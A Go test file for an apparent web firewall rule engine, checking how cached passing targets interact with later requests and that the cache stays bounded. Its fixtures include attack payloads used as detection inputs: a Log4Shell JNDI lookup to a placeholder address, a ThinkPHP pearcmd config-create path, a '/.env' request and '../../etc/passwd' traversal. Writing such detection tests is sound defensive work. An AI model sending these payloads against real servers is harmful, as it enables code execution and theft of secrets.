package engine

import (
	"fmt"
	"strings"
	"testing"
)

const (
	shop = "/shop?q=1"
	pear = "/?+config-create+/&lang=pearcmd&/x"
)

// A target that passed is not kept for requests on which something else decides.
func TestTargetsAreKeptOnlyWhereTheyDecide(t *testing.T) {
	browser := map[string][]string{"User-Agent": {"Mozilla/5.0"}}
	hostile := map[string][]string{"User-Agent": {"${jndi:ldap://192.0.2.1/a}"}}
	const excepted = `{"check_query": true, "block_patterns": ["^/shop$"], "exceptions": [{"path": "^/shop$", "rules": ["block[0]"], "hosts": ["a.example"]}]}`
	for name, test := range map[string]struct {
		file           string
		former, latter *Request
		want           string // the rule that decides on the latter; empty: it passes
	}{
		"another method": {
			`{"exploits": "all", "methods": ["*"]}`, get("/8021xsupport.html"), &Request{Method: "POST", Target: "/8021xsupport.html"}, "cve-2024-41710",
		},
		"a former method without rules about queries": {
			`{"exploits": "paths", "methods": ["*"]}`, &Request{Method: "PURGE", Target: pear}, get(pear), "cve-2022-47945",
		},
		"another header": {
			`{"exploits": "all"}`, &Request{Method: "GET", Target: shop, Header: browser}, &Request{Method: "GET", Target: shop, Header: hostile}, "cve-2021-44228",
		},
		"a header with a target": {
			`{"check_headers": ["X-Original-URL"]}`, get(shop), &Request{Method: "GET", Target: shop, Header: map[string][]string{"X-Original_url": {"/.env"}}}, "env-file",
		},
		"a rewritten target": {
			`{}`, get(shop), &Request{Method: "GET", Target: shop, Rewritten: "/.env", HasRewritten: true}, "env-file",
		},
		"a former one that was rewritten": {
			`{"allow_patterns": ["^/x$"]}`, &Request{Method: "GET", Target: "/x", Rewritten: "/x", HasRewritten: true}, get("/x"), "allow[0]",
		},
		"another host than that of an exception": {
			excepted, &Request{Method: "GET", Target: shop, Host: "a.example"}, &Request{Method: "GET", Target: shop, Host: "b.example"}, "block[0]",
		},
		"a rule that was excused": {
			`{"block_patterns": ["^/shop$"]}`, &Request{Method: "GET", Target: shop, Excused: []string{"block[0]"}}, get(shop), "block[0]",
		},
		"a body": {
			`{"check_body": true}`, get(shop),
			&Request{Method: "GET", Target: shop, Header: map[string][]string{"Content-Type": {formType}}, Body: []byte("a=../../etc/passwd")}, "trav-enc-v",
		},
		"the same": {`{"exploits": "all"}`, &Request{Method: "GET", Target: shop, Header: browser}, &Request{Method: "GET", Target: shop, Header: browser}, ""},
	} {
		rules := compiled(t, test.file)
		rules.Evaluate(test.former)
		if got := rules.Evaluate(test.latter); got.Rule != test.want {
			t.Errorf("%s: got %+v, want %s", name, got, test.want)
		}
	}
}

func TestKeptTargetsAreBounded(t *testing.T) {
	passed := newPassedTargets()
	var targets []string
	for i := range 10 * targetSlots {
		targets = append(targets, fmt.Sprintf("/products/%d", i))
		passed.keep(targets[i])
	}
	count := 0
	for _, target := range targets {
		if passed.has(target) {
			count++
		}
	}
	if count == 0 || count > targetSlots {
		t.Errorf("%d targets are kept", count)
	}
	long := "/" + strings.Repeat("a", longestTarget)
	passed.keep(long)
	if passed.has(long) || passed.has("") {
		t.Error("a long or an empty target is kept")
	}
}
